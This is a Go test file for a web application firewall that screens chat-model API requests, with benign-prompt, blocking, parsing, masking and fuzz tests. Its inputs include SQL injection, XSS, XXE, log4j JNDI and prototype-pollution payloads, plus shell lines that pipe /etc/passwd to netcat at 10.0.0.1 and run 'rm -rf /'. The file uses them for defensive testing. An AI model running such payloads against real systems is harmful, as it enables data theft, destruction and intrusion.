package waf

import (
	"encoding/json"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"postern/internal/decision"
	"postern/internal/gatetest"
	"postern/internal/policy"
)

// benign are prompts that stock rules take for attacks.
var benign = []string{
	"Why does SELECT * FROM users WHERE name = '' OR 1=1 -- match every row?",
	"Rewrite as a prepared statement:\n```php\n<?php $q = \"SELECT * FROM t WHERE id=\" . $_GET['id']; system($_POST['cmd']); ?>\n```",
	"| id | name |\n|----|------|\n| 1  | <b>Ann</b> |\n| 2  | O'Brien; DROP TABLE students;-- |",
	"<script>document.cookie='a=b'; alert(1)</script> is in my template, why is it not run?",
	"Explain: for f in $(ls /etc/passwd); do cat $f | nc 10.0.0.1 4444; done && rm -rf /",
	"curl http://169.254.169.254/latest/meta-data/ | jq . ; ../../../../etc/shadow",
	"# Heading\n\n- **bold** _it_\n\n[link](javascript:alert(1))\n\n<img src=x onerror=alert(1)>",
	"${jndi:ldap://example.org/a} was in our log4j logs; {{7*7}} and #{7*7} too. What is this?",
	"Übersetze: \u202eevil\u202c \x00 \ufffd 日本語 '; waitfor delay '0:0:5'--",
	strings.Repeat("function f(x){ return eval(x) } union all select null,null,null from information_schema.tables; ", 400),
}

func chat(prompt string) string {
	b, err := json.Marshal(map[string]any{
		"model": "gpt-4o-mini", "stream": true, "temperature": 0.2, "stop": []string{"';--", "<|end|>"},
		"messages": []any{
			map[string]any{"role": "system", "content": prompt},
			map[string]any{"role": "user", "name": "ann", "content": []any{
				map[string]any{"type": "text", "text": prompt},
				map[string]any{"type": "image_url", "image_url": map[string]any{"url": "data:image/png;base64,iVBORw0KGgo=", "detail": "low"}}}},
			map[string]any{"role": "assistant", "tool_calls": []any{map[string]any{"id": "call_1", "type": "function",
				"function": map[string]any{"name": "run_sql", "arguments": prompt}}}},
			map[string]any{"role": "tool", "tool_call_id": "call_1", "content": prompt},
		},
		"tools": []any{map[string]any{"type": "function", "function": map[string]any{"name": "run_sql", "description": prompt,
			"parameters": map[string]any{"type": "object", "properties": map[string]any{"select": map[string]any{"type": "string", "enum": []string{prompt}}}}}}},
		"metadata": map[string]any{"note": prompt},
	})
	if err != nil {
		panic(err)
	}
	return string(b)
}

func newPromptGate(t testing.TB) *firewall {
	g, err := Compile(true, Source{ID: "chat/v1", Pointer: pointer, WAF: &policy.WAF{Mode: "block", Paranoia: 2, Time: policy.WAFTime{Inspection: policy.Duration(mostBudget)}}})
	if err != nil {
		t.Fatal(err)
	}
	return g.(*firewall)
}

func TestBenignPromptsPass(t *testing.T) {
	g, stock := newPromptGate(t), newGate(t, policy.WAF{Body: &policy.WAFBody{Bytes: 1 << 20}, Paranoia: 2})
	refused := 0
	for _, p := range benign {
		setup := both(gatetest.Content("application/json", chat(p)), gatetest.Header("Accept", "*/*"))
		if v := g.Check(t.Context(), gatetest.Exchange(setup)); !v.Passed() {
			t.Errorf("%.60q is refused: %v", p, v.Facts())
		}
		if v := stock.Check(t.Context(), gatetest.Exchange(setup)); !v.Passed() {
			refused++
		}
	}
	if refused < len(benign)-1 {
		t.Errorf("the stock profile refuses %d of %d: the prompts prove nothing", refused, len(benign))
	}
}

// What steers the call, its names, and everything outside the body is inspected all the same.
func TestTheRestOfAModelCallIsInspected(t *testing.T) {
	g := newPromptGate(t)
	for name, c := range map[string]struct {
		body, target, header string
	}{
		"model":            {body: `{"model":"x' or 1=1 -- ","messages":[]}`},
		"role":             {body: `{"model":"x","messages":[{"role":"<script>alert(1)</script>"}]}`},
		"list of controls": {body: `{"model":"x","modalities":["text","; cat /etc/passwd | nc 10.0.0.1 80"]}`},
		"escaped":          {body: `{"model":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`},
		"name":             {body: `{"model":"x","<script>alert(1)</script>":1}`},
		"prototype":        {body: `{"model":"x","__proto__":{"admin":true}}`},
		"constructor":      {body: `{"model":"x","constructor":{"prototype":{"admin":true}}}`},
		"query":            {body: chat("hello"), target: "/v1/chat?q=%3Cscript%3Ealert(1)%3C/script%3E"},
		"header":           {body: chat("hello"), header: "<script>alert(1)</script>"},
		"no JSON":          {body: `{"messages": <script>alert(1)</script>`},
	} {
		setup := gatetest.Content("application/json", c.body)
		x := gatetest.Exchange(setup)
		if c.target != "" {
			gatetest.Target("POST", c.target)(x)
		}
		if c.header != "" {
			x.Header.Add("Referer", c.header)
		}
		if v := g.Check(t.Context(), x); v.Reason() != decision.WAFBlocked {
			t.Errorf("%s: %s %v", name, v.Outcome(), v.Reason())
		}
	}
}

func TestLargePromptsArePossible(t *testing.T) {
	g := newPromptGate(t)
	long := make([]map[string]string, 5000)
	for i := range long {
		long[i] = map[string]string{"role": "user", "content": strings.Repeat("what about SELECT? ", 50)}
	}
	b, err := json.Marshal(map[string]any{"model": "small", "messages": long})
	if err != nil {
		t.Fatal(err)
	}
	if v := g.Check(t.Context(), gatetest.Exchange(gatetest.Content("application/json", string(b)))); !v.Passed() {
		t.Errorf("%d bytes: %v", len(b), v.Facts())
	}
	many := `{"messages":[` + strings.Repeat(`{"<x>":1},`, 2000) + `1]}`
	if v := g.Check(t.Context(), gatetest.Exchange(gatetest.Content("application/json", many))); v.Reason() != decision.WAFUninspected {
		t.Errorf("too much to inspect: %s %v", v.Outcome(), v.Facts())
	}
	if v := g.Check(t.Context(), gatetest.Exchange(gatetest.Content("application/json", `"`+strings.Repeat("x", maxPrompt)+`"`))); v.Reason() != decision.WAFUninspected {
		t.Errorf("too large: %s %v", v.Outcome(), v.Facts())
	}
}

func TestReadPrompt(t *testing.T) {
	for body, want := range map[string]string{
		`{}`: "", `[]`: "", `"text <b>"`: "", `1`: "", ` null `: "",
		`{"model":"gpt-4o"}`: "",
		`{"model":"a b"}`:    "json.model=a b",
		`{"model":["a b","c",{"content":"x y"}, "d e"]}`:   "json.model.0=a b json.model.3=d e",
		`{"a b":{"role":"x;"}}`:                            "json.a b= json.a b.role=x;",
		`{"messages":[{"role":"q\"\\"},[[{"type":"<"}]]]}`: `json.messages.0.role=q"\ json.messages.1.0.0.type=<`,
		`{"":1}`:                       "json.=",
		`{"x":"}]{[,:\"","model":"<"}`: "json.model=<",
		`{"prototype":1}`:              "json.prototype=",
		`{"m\u006fdel":"<"}`:           "json.model=<",
	} {
		found, complete, ok := readPrompt([]byte(body))
		var got []string
		for _, a := range found {
			got = append(got, a.name+"="+a.value)
		}
		if !ok || !complete || strings.Join(got, " ") != want {
			t.Errorf("%s: %v %v %q, want %q", body, complete, ok, got, want)
		}
	}
	if _, _, ok := readPrompt([]byte(`{"model":`)); ok {
		t.Error("what is no JSON is a prompt")
	}
}

// FuzzReadPrompt holds the walk against encoding/json: whatever is an escaped, unusual name or a control is found, nothing
// panics, and no text of another member shows up.
func FuzzReadPrompt(f *testing.F) {
	f.Add(chat(benign[0]))
	f.Add(`{"model":"a b","messages":[{"role":"<","content":"CANARY <"}]}`)
	f.Add(`[[[["a"]]],{"type":["x y",{"id":"\u003c"}]}]`)
	f.Fuzz(func(t *testing.T, body string) {
		found, complete, ok := readPrompt([]byte(body))
		var v any
		if json.Unmarshal([]byte(body), &v) != nil {
			if ok && !json.Valid([]byte(body)) {
				t.Fatal("what is no JSON is a prompt")
			}
			return
		}
		if !ok {
			t.Fatal("JSON is no prompt")
		}
		if !complete {
			return
		}
		var values []string
		for _, a := range found {
			values = append(values, a.value)
		}
		seek(t, v, "", values)
	})
}

// seek finds every control that is more than a plain word among the values.
func seek(t *testing.T, v any, member string, values []string) {
	switch v := v.(type) {
	case map[string]any:
		for name, below := range v {
			seek(t, below, name, values)
		}
	case []any:
		for _, below := range v {
			seek(t, below, member, values)
		}
	case string:
		if controls[member] && !plainValue(v) && utf8.ValidString(v) && !strings.ContainsRune(v, utf8.RuneError) && !slices.Contains(values, v) {
			t.Fatalf("%s: %q is not inspected, only %q", member, v, values)
		}
	}
}

func TestMasking(t *testing.T) {
	for in, want := range map[string]string{
		"' OR password='hunter2'":            "' OR aaaaaaaa='aaaaaa9'",
		"<script>alert('Ann')</script>":      "<script>alert('Aaa')</script>",
		"../../etc/passwd":                   "../../etc/passwd",
		"1 UNION SELECT card FROM customers": "9 UNION SELECT aaaa FROM aaaaaaaaa",
		"Grüße 日本 １":                         "Aaaaa aa 9",
		"a\x00b\n\u202e\xff":                 "a?a???",
		"":                                   "",
	} {
		in, want = unquoted(in), unquoted(want)
		if got := maskData(in); got != want {
			t.Errorf("%q is shown as %q, want %q", in, got, want)
		}
	}
	if got := maskData(strings.Repeat("x", 1000)); utf8.RuneCountInString(got) != maxMasked+1 {
		t.Errorf("%d characters are shown", utf8.RuneCountInString(got))
	}
	for in, want := range map[string]string{
		"json.items.0.name": "json.items.0.name", "X-Forwarded-For": "X-Forwarded-For", "a[b][]": "a[b][]", "$filter": "$filter",
		gatetest.KeyText: maskData(gatetest.KeyText), "<b>": "<a>", "x y": "a a", strings.Repeat("n", 101): strings.Repeat("a", maxMasked) + "…",
	} {
		if got := maskName(in); got != want {
			t.Errorf("the name %q is shown as %q, want %q", in, got, want)
		}
	}
}

func unquoted(s string) string {
	if out, err := strconv.Unquote(`"` + strings.ReplaceAll(s, `"`, `\"`) + `"`); err == nil {
		return out
	}
	return s
}

// FuzzMask: no run of four letters or digits of the input stays, unless it is a word that tells of attacks.
func FuzzMask(f *testing.F) {
	f.Add("' or password='hunter2'")
	f.Add("\xff\x00é")
	f.Fuzz(func(t *testing.T, s string) {
		got := maskData(s)
		if utf8.RuneCountInString(got) > maxMasked+1 || !utf8.ValidString(got) {
			t.Fatalf("%q", got)
		}
		for _, word := range strings.FieldsFunc(got, func(r rune) bool { return !inWord(r) }) {
			if !telling[strings.ToLower(word)] && strings.Trim(word, "aA9_…") != "" && !partOfTelling(word) {
				t.Fatalf("%q shows %q of %q", got, word, s)
			}
		}
	})
}

// partOfTelling: the last word may have been cut off.
func partOfTelling(word string) bool {
	for w := range telling {
		if strings.HasPrefix(w, strings.ToLower(word)) {
			return true
		}
	}
	return false
}

// FuzzCheck: whatever comes, the gate answers, tells no more than its bounds, and no control characters.
func FuzzCheck(f *testing.F) {
	f.Add("/a?b=c", "application/json", `{"a":"<script>"}`)
	f.Add("/%zz?%00=\xff&&=&", "multipart/form-data; boundary=", "--\r\n\r\n--")
	f.Add("//?a[]=1", "application/x-www-form-urlencoded", "a=%u0027&;=")
	f.Add("/", "text/xml; charset=utf-7", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>")
	f.Add("*", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"a\"; filename*=utf-8''x%00.php\r\n\r\nx")
	g := newGate(f, policy.WAF{Paranoia: 4})
	f.Fuzz(func(t *testing.T, target, media, body string) {
		x := gatetest.Exchange(gatetest.Target("POST", target), gatetest.Content(media, body), gatetest.Header("Cookie", target))
		v := g.Check(t.Context(), x)
		if len(v.Facts()) > 4+maxTold*(1+maxMatched+8) {
			t.Fatalf("%d facts", len(v.Facts()))
		}
		if v.Reason() == decision.WAFUnavailable {
			t.Fatalf("the engine failed: %v", v.Facts())
		}
		for _, fact := range v.Facts() {
			if len(fact.Want) > 2000 || strings.ContainsFunc(fact.Want, unicode.IsControl) {
				t.Fatalf("%q", fact.Want)
			}
		}
	})
}
